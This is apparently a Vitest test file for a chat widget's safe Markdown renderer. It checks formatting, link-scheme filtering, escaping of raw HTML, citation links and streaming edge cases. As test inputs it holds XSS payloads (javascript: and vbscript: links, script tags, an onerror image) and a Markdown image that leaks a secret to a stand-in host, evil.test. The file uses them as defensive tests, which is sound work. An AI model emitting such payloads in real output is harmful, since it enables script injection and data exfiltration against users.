import { cleanup, render } from '@testing-library/preact'
import { afterEach, describe, expect, it } from 'vitest'
import { Markdown } from '../../widget/src/chat/markdown'

afterEach(cleanup)

const md = (text: string, sources: any[] = []) => render(<Markdown text={text} sources={sources} />).container

describe('safe markdown', () => {
  it('renders paragraphs, bold, italic, code, lists and fenced code as elements', () => {
    const c = md(
      '# Returns\nYou have **30 days** and *free* `label`.\n\n- one\n- two\n\n3. three\n4. four\n\n```\nx < y\n```',
    )
    expect(c.querySelector('strong')!.textContent).toBe('Returns')
    expect(Array.from(c.querySelectorAll('strong')).map((e) => e.textContent)).toContain('30 days')
    expect(c.querySelector('em')!.textContent).toBe('free')
    expect(c.querySelector('p code')!.textContent).toBe('label')
    expect(Array.from(c.querySelectorAll('ul li')).map((e) => e.textContent)).toEqual(['one', 'two'])
    const ol = c.querySelector('ol')!
    expect(ol.getAttribute('start')).toBe('3')
    expect(ol.querySelectorAll('li')).toHaveLength(2)
    expect(c.querySelector('pre code')!.textContent).toBe('x < y')
  })

  it('links http, https and mailto only, in a new tab with rel=noopener noreferrer', () => {
    const c = md(
      '[site](https://shop.test/a) [mail](mailto:help@shop.test) see https://shop.test/b. ' +
        '[bad](javascript:alert(1)) [data](data:text/html,<b>x</b>) [rel](/relative) [vb](vbscript:x)',
    )
    const links = Array.from(c.querySelectorAll('a'))
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://shop.test/a',
      'mailto:help@shop.test',
      'https://shop.test/b',
    ])
    for (const a of links) {
      expect(a.rel).toBe('noopener noreferrer')
      expect(a.target).toBe('_blank')
    }
    expect(c.textContent).toContain('bad') // the text stays, the link goes
    expect(c.textContent).toContain('see https://shop.test/b.') // the full stop is not part of the URL
  })

  it('shows raw HTML as text and never loads an image, even one that exfiltrates data', () => {
    const c = md(
      '<script>alert(1)</script> <img src=x onerror=alert(1)> ![secret](https://evil.test/leak?q=SECRET) ' +
        '[![x](https://evil.test/i.png)](https://evil.test)',
    )
    expect(c.querySelector('script, img, iframe, [onerror]')).toBeNull()
    expect(c.textContent).toContain('<script>alert(1)</script>')
    expect(c.textContent).toContain('<img src=x onerror=alert(1)>')
    expect(c.innerHTML).not.toContain('evil.test/leak')
    expect(c.textContent).toContain('secret')
  })

  it('turns [n] into a link to the n-th source, and leaves unknown numbers as text', () => {
    const c = md('Ships in 2 days [1][2], see [9].', [
      { id: 'a', title: 'Delivery', url: 'https://shop.test/delivery' },
      { id: 'b', title: 'Internal note', url: null },
    ])
    const cite = c.querySelector('a.cite') as HTMLAnchorElement
    expect(cite.textContent).toBe('1')
    expect(cite.href).toBe('https://shop.test/delivery')
    expect(cite.title).toBe('Delivery')
    expect(c.querySelector('sup.cite')!.textContent).toBe('2') // no URL: a number, not a link
    expect(c.textContent).toContain('[9]')
  })

  it('keeps an unfinished streamed **bold as plain text', () => {
    const c = md('Almost **there')
    expect(c.querySelector('strong')).toBeNull()
    expect(c.textContent).toBe('Almost **there')
  })
})
